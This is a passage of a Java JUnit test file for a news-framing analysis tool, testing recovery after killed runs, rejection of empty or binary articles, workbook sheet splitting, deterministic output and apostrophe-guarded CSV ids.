        assertEquals(ExitCode.OK, RunCommandTest.run("run", storyA.toString(), "-o", out.toString(), "-q").exit());
        Map<String, byte[]> previous = report(out);
        // the report the killed run had finished: another story, so every output differs
        Path storyB = goodStory(dir.resolve("b"));
        Files.writeString(storyB.resolve("third.txt"), "Third Take On The Talks\n\nThe talks may resume, an aide said.\n");
        Path finished = dir.resolve("finished");
        assertEquals(ExitCode.OK, RunCommandTest.run("run", storyB.toString(), "-o", finished.toString(), "-q").exit());
        Map<String, byte[]> expected = report(finished);
        // its temporary folder in OUT, complete, and the run killed after two of its moves
        Path tmp = Files.createTempDirectory(out, OutputLock.TEMP_PREFIX);
        for (Map.Entry<String, byte[]> f : expected.entrySet()) {
            Files.createDirectories(tmp.resolve(f.getKey()).getParent());
            Files.write(tmp.resolve(f.getKey()), f.getValue());
        }
        OutputCommit.markComplete(tmp);
        assertEquals(2, OutputCommit.commit(tmp, out, 2));
        assertArrayEquals(expected.get("sentences.csv"), Files.readAllBytes(out.resolve("sentences.csv")));
        assertArrayEquals(previous.get("run.json"), Files.readAllBytes(out.resolve("run.json")), "a mix, for now");

        // the next run finishes the moves before anything else, even one that then processes nothing
        Path nothing = Files.createDirectories(dir.resolve("nothing").resolve("story"));
        Files.write(nothing.resolve("empty.txt"), new byte[0]);
        RunCommandTest.Outcome next = RunCommandTest.run("run", nothing.toString(), "-o", out.toString());

        assertEquals(ExitCode.NOTHING_PROCESSED, next.exit(), next.err());
        assertTrue(next.err().contains("framelens: warning: " + tmp + ": an earlier run was killed while it moved its"
                + " finished report into place; moved the 3 output(s) it had not"), next.err());
        Map<String, byte[]> after = report(out);
        assertEquals(expected.keySet(), after.keySet(), "the killed run's report, every file of it");
        for (String f : expected.keySet()) {
            assertArrayEquals(expected.get(f), after.get(f), f);
        }
        assertEquals(List.of(), temporaries(out));
    }

    @Test
    void aRunThatProcessesNothingLeavesThePreviousReportAndSaysWhy() throws IOException {
        Path out = dir.resolve("out");
        assertEquals(ExitCode.OK, RunCommandTest.run("run", goodStory(dir.resolve("a")).toString(), "-o", out.toString(), "-q")
                .exit());
        Map<String, byte[]> previous = report(out);
        Path bad = Files.createDirectories(dir.resolve("bad").resolve("story"));
        Files.write(bad.resolve("empty.txt"), new byte[0]);
        Files.write(bad.resolve("image.txt"), new byte[] {(byte) 0xFF, (byte) 0xD8, (byte) 0xFF, (byte) 0xE0, 0, 16, 'J', 'F'});

        RunCommandTest.Outcome o = RunCommandTest.run("run", bad.toString(), "-o", out.toString());

        assertEquals(ExitCode.NOTHING_PROCESSED, o.exit(), o.err());
        for (String expected : List.of(bad.resolve("empty.txt") + ": empty file",
                bad.resolve("image.txt") + ": binary file (NUL byte at offset 4), not an article",
                "no article could be processed under " + bad)) {
            assertTrue(o.err().contains("framelens: error: " + expected), expected + "\n" + o.err());
        }
        Map<String, byte[]> after = report(out);
        assertEquals(previous.keySet(), after.keySet());
        for (String f : previous.keySet()) {
            assertArrayEquals(previous.get(f), after.get(f), f + " is the previous run's");
        }
        assertEquals(List.of(), temporaries(out));
    }

    @Test
    void pastTheSheetRowLimitTheSentencesContinueOnAFurtherSheet() throws IOException {
        Path story = goodStory(dir);
        Path out = dir.resolve("out");
        // four rows a sheet (a header and three sentences), so six sentences need two sheets
        RunJob.Result result = new RunJob(story, out, List.of(), java.time.Clock.systemUTC()).sheetRows(4)
                .run(new RunCommand.Log(new java.io.PrintWriter(java.io.Writer.nullWriter()), true, false));

        assertEquals(6, result.sentences());
        List<String> inCsv = RunCommandTest.csv(out.resolve("sentences.csv")).stream()
                .map(r -> r.get("outlet") + "#" + r.get("sentence") + " " + r.get("text")).toList();
        List<String> inSheets = new ArrayList<>();
        try (XSSFWorkbook wb = workbook(out)) {
            for (String name : List.of("Sentences", "Sentences (2)")) {
                XSSFSheet sheet = wb.getSheet(name);
                assertEquals("text", sheet.getRow(0).getCell(SentenceColumn.TEXT.ordinal()).getStringCellValue(),
                        name + " has its header");
                assertEquals(3, sheet.getLastRowNum(), name);
                for (Row r : sheet) {
                    if (r.getRowNum() > 0) {
                        inSheets.add(r.getCell(1).getStringCellValue() + "#"
                                + (long) r.getCell(SentenceColumn.SENTENCE.ordinal()).getNumericCellValue() + " "
                                + r.getCell(SentenceColumn.TEXT.ordinal()).getStringCellValue());
                    }
                }
            }
            assertEquals(null, wb.getSheet("Sentences (3)"));
        }
        assertEquals(inCsv, inSheets, "every sentence once, in order, across the two sheets");
    }

    @Test
    void anOutputFolderThatIsAFileIsAUsageError() throws IOException {
        Path story = goodStory(dir);
        Path file = Files.writeString(dir.resolve("report.txt"), "not a folder");

        RunCommandTest.Outcome o = RunCommandTest.run("run", story.toString(), "-o", file.toString());

        assertEquals(ExitCode.USAGE, o.exit(), o.err());
        assertTrue(o.err().contains("framelens: error: " + file + ": the output folder is a file"), o.err());
        assertEquals("not a folder", Files.readString(file));
    }

    @Test
    void twoRunsOfTheSameInputWriteTheSameWorkbookCellsOnAnyThreadCount() throws IOException {
        Path corpus = TestCorpus.generate(dir.resolve("corpus"), 5, 3, 17);
        Path one = dir.resolve("one");
        Path two = dir.resolve("two");
        assertEquals(ExitCode.OK, RunCommandTest.run("run", corpus.toString(), "-o", one.toString(), "-q", "--threads", "1")
                .exit());
        assertEquals(ExitCode.OK, RunCommandTest.run("run", corpus.toString(), "-o", two.toString(), "-q", "--threads", "3")
                .exit());

        Map<String, List<String>> a = cells(one);
        Map<String, List<String>> b = cells(two);
        assertEquals(a.keySet(), b.keySet(), "the same sheets in the same order");
        for (String sheet : a.keySet()) {
            assertEquals(a.get(sheet), b.get(sheet), sheet);
        }
        assertTrue(a.get("Sentences").size() > 50 * SentenceColumn.values().length, "a real workbook");
        assertSameCsv(one, two);
    }

    /**
     * @return every cell of every sheet as {@code A1=value}, by sheet in workbook order; in the Run
     *     sheet the rows that name this run (its start, its output folder, its thread count) aside
     */
    private static Map<String, List<String>> cells(Path out) throws IOException {
        Set<String> ownRows = Set.of("Started (UTC)", "--output", "--threads");
        Map<String, List<String>> cells = new java.util.LinkedHashMap<>();
        try (XSSFWorkbook wb = workbook(out)) {
            for (org.apache.poi.ss.usermodel.Sheet sheet : wb) {
                List<String> values = new ArrayList<>();
                for (Row r : sheet) {
                    Cell first = r.getCell(0);
                    if (sheet.getSheetName().equals("Run") && first != null && first.getCellType() == CellType.STRING
                            && ownRows.contains(first.getStringCellValue())) {
                        continue;
                    }
                    for (Cell c : r) {
                        String v = switch (c.getCellType()) {
                            case STRING -> c.getStringCellValue();
                            case NUMERIC -> Double.toString(c.getNumericCellValue());
                            case BOOLEAN -> Boolean.toString(c.getBooleanCellValue());
                            case BLANK -> "";
                            default -> c.getCellType() + ":" + c;
                        };
                        values.add(c.getAddress() + "=" + v);
                    }
                }
                cells.put(sheet.getSheetName(), values);
            }
        }
        return cells;
    }

    @Test
    void evalReadsGuardedIdsAsTheyWere() throws IOException {
        // the sample with its outlets renamed '-wire' and '@post': ids the CSV guards with an apostrophe
        Path story = Files.createDirectories(dir.resolve("in").resolve("putin-guarantee"));
        Path gold = Files.createDirectories(story.resolve("gold"));
        for (String[] n : List.of(new String[] {"outlet-000", "-wire"}, new String[] {"outlet-002", "@post"})) {
            Files.copy(RunCommandTest.SAMPLE.resolve(n[0] + ".txt"), story.resolve(n[1] + ".txt"));
            Files.writeString(gold.resolve(n[1] + ".csv"), Files.readString(RunCommandTest.SAMPLE.resolve("gold")
                    .resolve(n[0] + ".csv"), StandardCharsets.UTF_8).replace(n[0] + ",", n[1] + ","), StandardCharsets.UTF_8);
        }
        Path renamed = dir.resolve("renamed");
        Path original = dir.resolve("original");
        assertEquals(ExitCode.OK, RunCommandTest.run("run", story.toString(), "-o", renamed.toString(), "-q").exit());
        assertEquals(ExitCode.OK, RunCommandTest.run("run", RunCommandTest.SAMPLE.toString(), "-o", original.toString(), "-q")
                .exit());
        assertTrue(RunCommandTest.csv(renamed.resolve("sentences.csv")).stream().allMatch(r -> r.get("outlet").startsWith("'")));

        RunCommandTest.Outcome a = RunCommandTest.run("eval", gold.toString(), renamed.toString());
        RunCommandTest.Outcome b = RunCommandTest.run("eval", RunCommandTest.SAMPLE.resolve("gold").toString(), original.toString());

        assertEquals(ExitCode.OK, a.exit(), a.err());
        assertEquals(b.out().replace(original.toString(), "OUT"), a.out().replace(renamed.toString(), "OUT"),
                "every gold sentence matched, the same figures");
    }

    @Test
    void helpDocumentsTheLockTheManifestAndIncrementalRuns() {
        RunCommandTest.Outcome help = RunCommandTest.run("run", "--help");
        assertEquals(ExitCode.OK, help.exit());
        for (String s : List.of("--incremental", "OUT/.framelens.lock", "exit code 3", "3   nothing could be processed",
                "holds OUT's lock", "OUT/run.json", "leading '", "Progress:")) {
            assertTrue(help.out().contains(s), s + "\n" + help.out());
        }
    }

    // ---- helpers

    private static byte[] bytes(String text, String charset) {
        return text.getBytes(java.nio.charset.Charset.forName(charset));
    }

    static XSSFWorkbook workbook(Path out) throws IOException {
        try (InputStream in = Files.newInputStream(out.resolve("report.xlsx"))) {
            return new XSSFWorkbook(in);
        }
    }

    static Map<String, Object> runJson(Path out) throws IOException {
        return JsonReader.object(JsonReader.parse(Files.readString(out.resolve(RunManifest.FILE), StandardCharsets.UTF_8)));
    }

    private static List<Map<String, Object>> runJsonInputs(Path out) throws IOException {
        return JsonReader.array(runJson(out).get("inputs")).stream().map(JsonReader::object).toList();
    }

    private Path fullRun(Path corpus, String name) {
        Path out = dir.resolve(name);
        RunCommandTest.Outcome o = RunCommandTest.run("run", corpus.toString(), "-o", out.toString(), "-q");
        assertEquals(ExitCode.OK, o.exit(), o.err());
        return out;
    }

    /** Every CSV file of two output folders is the same bytes. */
    private static void assertSameCsv(Path a, Path b) throws IOException {
        Set<String> files = new LinkedHashSet<>(List.of("sentences.csv"));
        try (Stream<Path> s = Files.list(a.resolve("csv"))) {
            s.map(p -> "csv/" + p.getFileName()).sorted().forEach(files::add);
        }
        assertTrue(files.size() >= 8, files.toString());
        for (String f : files) {
            assertArrayEquals(Files.readAllBytes(a.resolve(f)), Files.readAllBytes(b.resolve(f)), f);
        }
    }

    /** @return every file of the report in OUT by relative path, the lock file and temporary folders aside */
    private static Map<String, byte[]> report(Path out) throws IOException {
        Map<String, byte[]> files = new TreeMap<>();
        try (Stream<Path> s = Files.walk(out)) {
            for (Path p : s.filter(Files::isRegularFile).toList()) {
                String rel = out.relativize(p).toString().replace('\\', '/');
                if (!rel.startsWith(OutputLock.TEMP_PREFIX) && !rel.equals(OutputLock.FILE)) {
                    files.put(rel, Files.readAllBytes(p));
                }
            }
        }
        return files;
    }

    private static List<Path> temporaries(Path out) {
        try (Stream<Path> s = Files.list(out)) {
            return s.filter(p -> p.getFileName().toString().startsWith(OutputLock.TEMP_PREFIX)).sorted().toList();
        } catch (IOException e) {
            return List.of();
        }
    }

    private static long size(Path p) {
        try {
            return Files.size(p);
        } catch (IOException e) {
            return 0;
        }
    }

    /** Waits until the condition holds; fails when the child ends first or after two minutes. */
    private static void await(Process child, BooleanSupplier condition) throws InterruptedException {
        long deadline = System.nanoTime() + TimeUnit.MINUTES.toNanos(2);
        while (!condition.getAsBoolean()) {
            if (!child.isAlive()) {
                fail("the run ended (exit " + child.exitValue() + ") before it could be killed while writing");
            }
            if (System.nanoTime() > deadline) {
                fail("the run never started writing");
            }
            Thread.sleep(10);
        }
    }
}
